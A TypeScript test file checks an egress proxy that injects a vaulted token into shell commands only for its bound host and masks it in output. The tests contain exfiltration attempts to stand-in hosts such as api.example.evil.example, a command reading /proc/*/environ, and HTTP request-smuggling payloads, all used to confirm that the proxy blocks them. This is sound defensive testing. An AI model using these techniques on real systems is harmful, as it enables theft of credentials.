import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import type { IncomingMessage, RequestListener } from "node:http";
import { createServer } from "node:https";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import { connect } from "node:tls";
import { gzipSync } from "node:zlib";
import type { CredentialBinding, CredentialPorts } from "../../src/act/egress/credential.ts";
import type { Secure } from "../../src/act/egress/egress-proxy.ts";
import { onTheInternet, serve } from "../../src/act/tools/shell/network.fixture.ts";
import { makeScratchFolder } from "../../src/act/tools/shell/shell.fixture.ts";
import { keyEncodings } from "../../src/gate/secrets/key-encodings.fixture.ts";
import { makeNeedles } from "../../src/gate/secrets/needles.ts";
import { makeByteMask } from "../../src/gate/secrets/stream-filter.ts";
import { isMissing } from "../agent-world.ts";

const value = "vault-kept-token-77aa-Zx91-qq";
const github: CredentialBinding = {
  name: "github",
  host: "api.example",
  port: 443,
  header: "authorization",
  variable: "GITHUB_TOKEN",
};

/** A shell with the credential on the made-up internet, whose hosts are one server. `secured` are the hosts to which a connection was encrypted. */
async function openWorld(
  context: TestContext,
  listener: RequestListener,
  { bindings = [github], locked = false } = {},
) {
  const secured: string[] = [];
  const secure: Secure = async (socket, host) => {
    secured.push(host);
    return socket;
  };
  const credentials: CredentialPorts = {
    list: () => bindings,
    read: () => (locked ? { ok: false, reason: "The vault is locked." } : { ok: true, value }),
    makeMask: () => makeByteMask(makeNeedles([value])),
  };
  const port = await serve(context, listener);
  const world = await onTheInternet(context, port, { egress: { credentials, secure } });
  return world === null ? null : { ...world, secured };
}

/** A server that says back what it was sent, and keeps it. */
function makeEcho() {
  const requests: IncomingMessage[] = [];
  const listener: RequestListener = (request, response) => {
    requests.push(request);
    let body = "";
    request.on("data", (bytes: Buffer) => (body += bytes.toString("latin1")));
    request.on("end", () => {
      response.setHeader("x-echo", request.headers["authorization"] ?? "none");
      response.end(JSON.stringify({ url: request.url, headers: request.headers, body }));
    });
  };
  return { requests, listener, sent: () => requests.map(({ headers }) => headers["authorization"]) };
}

/** Every file of a folder that has the value in it, in any encoding. */
function filesWithValue(folder: string): readonly string[] {
  return readdirSync(folder, { recursive: true, encoding: "utf8" }).filter((name) => {
    const path = join(folder, name);
    if (!statSync(path).isFile()) return false;
    const text = readFileSync(path, "latin1");
    return Object.values(keyEncodings).some((encode) => text.includes(encode(value)));
  });
}

const withToken = (words: string) => `sh -c 'curl -sS -i -H "Authorization: Bearer $GITHUB_TOKEN" ${words}'`;

test("a command uses a credential without seeing it: the proxy puts it in, encrypted, and covers it in the answer", async (context) => {
  const echo = makeEcho();
  const world = await openWorld(context, echo.listener);
  if (world === null) return;
  const command = `${withToken("http://api.example/user")}; env > seen.txt; cat /proc/*/environ /proc/*/cmdline > more.txt 2>/dev/null`;
  const out = await world.run(command, undefined, ["github"]);
  assert.deepEqual(echo.sent(), [`Bearer ${value}`]);
  assert.deepEqual(world.secured, ["api.example"]);
  assert.match(out, /Bearer \**/);
  for (const [way, encode] of Object.entries(keyEncodings)) assert.ok(!out.includes(encode(value)), way);
  assert.match(
    readFileSync(join(world.workspace, "seen.txt"), "utf8"),
    /GITHUB_TOKEN=placeholder-[0-9a-f]{32}/,
  );
  assert.deepEqual(filesWithValue(world.root), []);
  assert.deepEqual(
    world.connections.map(({ host, port, credentials }) => [host, port, credentials]),
    [["api.example", 443, ["github"]]],
  );
  assert.ok(!JSON.stringify(world.connections).includes(value));
});

test("basic authentication, git and another header get the value too", async (context) => {
  const echo = makeEcho();
  const key: CredentialBinding = { ...github, name: "key", header: "x-api-key", variable: "THE_KEY" };
  const world = await openWorld(context, echo.listener, { bindings: [github, key] });
  if (world === null) return;
  const both = ["github", "key"];
  await world.run(`sh -c 'curl -sS -u "me:$GITHUB_TOKEN" http://api.example/'`, undefined, both);
  await world.run(`sh -c 'curl -sS -H "X-Api-Key: $THE_KEY" http://api.example/'`, undefined, both);
  await world.run("git ls-remote https://api.example/o/r.git", undefined, both);
  const basic = (login: string) => `Basic ${Buffer.from(login).toString("base64")}`;
  assert.equal(echo.sent()[0], basic(`me:${value}`));
  assert.equal(echo.requests[1]?.headers["x-api-key"], value);
  assert.equal(echo.sent()[2], basic(`x-access-token:${value}`));
});

test("no other host, port, header, path or body gets the value", async (context) => {
  const echo = makeEcho();
  const world = await openWorld(context, echo.listener);
  if (world === null) return;
  const hosts = "api.example other.example api.example:8080 xapi.example api.example.evil.example".split(" ");
  const elsewhere =
    "http://other.example http://api.example:8080 http://xapi.example http://api.example.evil.example http://API.example.@other.example";
  for (const url of elsewhere.split(" "))
    await world.run(withToken(`--noproxy "" ${url}/`), hosts, ["github"]);
  const host = await world.run(withToken('-H "Host: api.example" http://other.example/'), hosts, ["github"]);
  assert.match(host, /placeholder-/);
  await world.run(
    `sh -c 'curl -sS -d "$GITHUB_TOKEN" -H "X-Other: $GITHUB_TOKEN" "http://api.example/?$GITHUB_TOKEN"'`,
    hosts,
    ["github"],
  );
  assert.ok(echo.requests.length >= 5, `${echo.requests.length}`);
  const texts = echo.requests.map(({ url, rawHeaders }) => [url, ...rawHeaders].join("\n")).join("\n");
  assert.ok(!texts.includes(value) && !texts.includes(Buffer.from(value).toString("base64").slice(4, -4)));
});

test("the name of the host counts whole, in any case and with a final dot", async (context) => {
  const echo = makeEcho();
  const world = await openWorld(context, echo.listener);
  if (world === null) return;
  for (const url of [
    "http://API.EXAMPLE/",
    "http://api.example./",
    "http://api.example:443/",
    "http://api.example:80/",
  ])
    await world.run(withToken(url), undefined, ["github"]);
  assert.deepEqual(new Set(echo.sent()), new Set([`Bearer ${value}`]));
  assert.equal(world.secured.length, echo.requests.length, "never without encryption");
});

test("a redirect takes the value nowhere, and what the host does not get by itself is not put in", async (context) => {
  const seen: IncomingMessage[] = [];
  const world = await openWorld(context, (request, response) => {
    seen.push(request);
    if (request.headers.host === "api.example")
      response.writeHead(302, { location: "http://other.example/take" }).end();
    else response.end("REACHED");
  });
  if (world === null) return;
  const out = await world.run(
    withToken("-L --location-trusted http://api.example/"),
    ["other.example"],
    ["github"],
  );
  assert.match(out, /REACHED/);
  assert.equal(seen[0]?.headers["authorization"], `Bearer ${value}`);
  assert.match(seen[1]?.headers["authorization"] ?? "", /^Bearer placeholder-/);
  const tunnel = await world.run(withToken("https://api.example/"), undefined, ["github"]);
  assert.match(tunnel, /write http:\/\/ for it, and the proxy makes it https/);
  assert.equal(seen.length, 2);
});

test("requests that are two at once, smuggled or doubled are refused or lose what is too much", async (context) => {
  const echo = makeEcho();
  const world = await openWorld(context, echo.listener);
  if (world === null) return;
  const script = `
    const token = "Authorization: Bearer " + process.env.GITHUB_TOKEN + "\\r\\n";
    const first = "GET http://other.example/ HTTP/1.1\\r\\nHost: x\\r\\n";
    const last = "Connection: close\\r\\n\\r\\n";
    const inner = "POST /inner HTTP/1.1\\r\\nHost: other.example\\r\\n" + token + last;
    const api = "POST http://api.example/ HTTP/1.1\\r\\nHost: api.example\\r\\n";
    const texts = [
      api + token + token + "content-length: 0\\r\\n" + last,
      api + token + "content-length: 3\\r\\ntransfer-encoding: chunked\\r\\n" + last + "0\\r\\n\\r\\n" + inner,
      api + token + "content-length: 0\\r\\ncontent-length: " + inner.length + "\\r\\n" + last + inner,
      api + "content-length: " + inner.length + "\\r\\n" + last + inner,
      api + "Connection: authorization\\r\\n" + token + "content-length: 0\\r\\n\\r\\n",
      first + "X: y\\r\\n " + token + last,
      api + "Authorization : Bearer " + process.env.GITHUB_TOKEN + "\\r\\n" + last,
      "GET api.example/ HTTP/1.1\\r\\nHost: api.example\\r\\n" + token + last,
      "GET /x HTTP/1.1\\r\\nHost: api.example\\r\\n" + token + last,
      "GET http://me@api.example/ HTTP/1.1\\r\\nHost: api.example\\r\\n" + token + last,
    ];
    for (const text of texts) {
      const socket = require("net").connect(18080, "127.0.0.1");
      socket.on("error", () => {});
      socket.on("data", (bytes) => process.stdout.write(bytes));
      socket.setTimeout(1000, () => socket.destroy());
      socket.write(text);
    }`;
  writeFileSync(join(world.workspace, "send.cjs"), script);
  const out = await world.run(`${process.execPath} send.cjs`, ["api.example", "other.example"], ["github"]);
  assert.match(out, /the request has the header authorization twice/);
  assert.ok(!out.includes(value));
  for (const { url, headers } of echo.requests) {
    assert.ok(!String(headers["authorization"]).includes(value), `${url} ${headers["authorization"]}`);
    assert.notEqual(url, "/inner");
  }
});

test("an answer that shows the value encoded, split, compressed or in parts shows it to nobody", async (context) => {
  const encodings = Object.entries(keyEncodings);
  const world = await openWorld(context, (request, response) => {
    const name = decodeURIComponent((request.url ?? "").slice(1));
    if (name === "gzip") {
      response.writeHead(200, { "content-encoding": "gzip" }).end(gzipSync(value));
    } else if (name === "split") {
      let at = 0;
      const next = (): void => {
        if (at === value.length) response.end();
        else response.write(value[at++] ?? "", () => setTimeout(next, 5));
      };
      next();
    } else if (name === "header") {
      response.writeHead(200, { "x-a": `a ${value}`, "set-cookie": [`t=${value}`, "b"] }).end("x");
    } else if (name === "range") {
      response.end(request.headers["range"] === undefined ? "WHOLE" : value.slice(0, 6));
    } else response.end(`before ${keyEncodings[name]?.(value)} after`);
  });
  if (world === null) return;
  const urls = encodings.map(([name]) => `http://api.example/${encodeURIComponent(name)}`);
  const all = await world.run(`curl -sS ${urls.join(" ")}`, undefined, ["github"]);
  for (const [name, encode] of encodings) assert.ok(!all.includes(encode(value)), `${name}: ${all}`);
  assert.equal(all.split("before ").length, encodings.length + 1);
  const get = (path: string, more = "") =>
    world.run(`curl -sS -i ${more} http://api.example/${path}`, undefined, ["github"]);
  assert.match(await get("gzip", "--compressed"), /502 .*encoding that it was not asked for/s);
  assert.ok(!(await get("split")).includes("token"));
  const headers = await get("header");
  assert.match(headers, /x-a: a \*+/);
  assert.ok(!headers.includes(value));
  assert.match(await get("range", "-r 0-5"), /WHOLE/);
});

test("bytes that are no secret pass as they are, whatever they are", async (context) => {
  const bytes = Buffer.from(Array.from({ length: 300_000 }, (_, at) => (at * 7919 + (at >> 8)) & 255));
  const world = await openWorld(context, (_request, response) => response.end(bytes));
  if (world === null) return;
  await world.run("curl -sS -o got.bin http://api.example/", undefined, ["github"]);
  assert.deepEqual(readFileSync(join(world.workspace, "got.bin")), bytes);
});

test("without the owner's binding, or while the vault is locked, a proposal with a credential is refused in words", async (context) => {
  const world = await openWorld(context, (_request, response) => response.end("x"), { locked: true });
  if (world === null) return;
  const locked = await world.shell.prepare("curl http://api.example/", undefined, ["github"]);
  assert.ok(!locked.ok);
  assert.match(locked.message, /github cannot be used now\. The vault is locked/);
  for (const name of ["gitlab", "vault:github", "__proto__", ""]) {
    const unknown = await world.shell.prepare("curl http://api.example/", undefined, [name]);
    assert.ok(!unknown.ok);
    assert.match(unknown.message, /There are: github \(\$GITHUB_TOKEN/);
  }
  const without = await world.shell.prepare("curl http://api.example/");
  assert.ok(without.ok && !JSON.stringify(without.effects).includes("credential"));
});

test("a command with a credential asks each time, and the question names the credential and its host", async (context) => {
  const world = await openWorld(context, (_request, response) => response.end("x"));
  if (world === null) return;
  const prepared = await world.shell.prepare("make deploy", undefined, ["github"]);
  assert.ok(prepared.ok);
  const [program] = prepared.effects;
  assert.ok(program?.kind === "run-program");
  assert.deepEqual(program.credentials, ["github at api.example"]);
  assert.deepEqual(
    prepared.effects.flatMap((effect) =>
      effect.kind === "reach-host" ? [`${effect.target}:${effect.port}`] : [],
    ),
    ["api.example:443"],
  );
  const plain = await world.shell.prepare("make deploy", ["api.example:443"]);
  assert.ok(
    plain.ok && JSON.stringify(plain.plan) !== JSON.stringify(prepared.plan),
    "an approval is bound to it",
  );
});

test("over real encryption the value goes only to a host that proves its name", async (context) => {
  if (isMissing(context, "openssl", "openssl")) return;
  const folder = await makeScratchFolder(context);
  const pem = (name: string) => join(folder, name);
  const words =
    "req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=api.example -addext subjectAltName=DNS:api.example";
  const args = [...words.split(" "), "-keyout", pem("key.pem"), "-out", pem("cert.pem")];
  execFileSync("openssl", args, { stdio: "ignore" });
  const [key, cert] = [readFileSync(pem("key.pem")), readFileSync(pem("cert.pem"))];
  const seen: (string | undefined)[] = [];
  const server = createServer({ key, cert }, (request, response) => {
    seen.push(request.headers["authorization"]);
    response.end(`REACHED ${request.headers["authorization"]}`);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  context.after(() => server.close());
  const port = (server.address() as AddressInfo).port;
  const bindings = [github, { ...github, name: "other", host: "other.example" }];
  const credentials: CredentialPorts = {
    list: () => bindings,
    read: () => ({ ok: true, value }),
    makeMask: () => makeByteMask(makeNeedles([value])),
  };
  const untrusting = await onTheInternet(context, port, { egress: { credentials } });
  if (untrusting === null) return;
  const refused = await untrusting.run(withToken("http://api.example/"), undefined, ["github"]);
  assert.match(refused, /502 .*self-signed/s);
  const secure: Secure = (socket, host) =>
    new Promise((resolve, reject) => {
      const encrypted = connect({ socket, servername: host, host, ca: cert }, () => resolve(encrypted));
      encrypted.once("error", reject);
    });
  const trusting = await onTheInternet(context, port, { egress: { credentials, secure } });
  assert.ok(trusting !== null);
  assert.match(
    await trusting.run(withToken("http://api.example/"), undefined, ["github"]),
    /REACHED Bearer \*+/,
  );
  await trusting.run(withToken("http://other.example/"), undefined, ["other"]);
  assert.deepEqual(seen, [`Bearer ${value}`]);
});
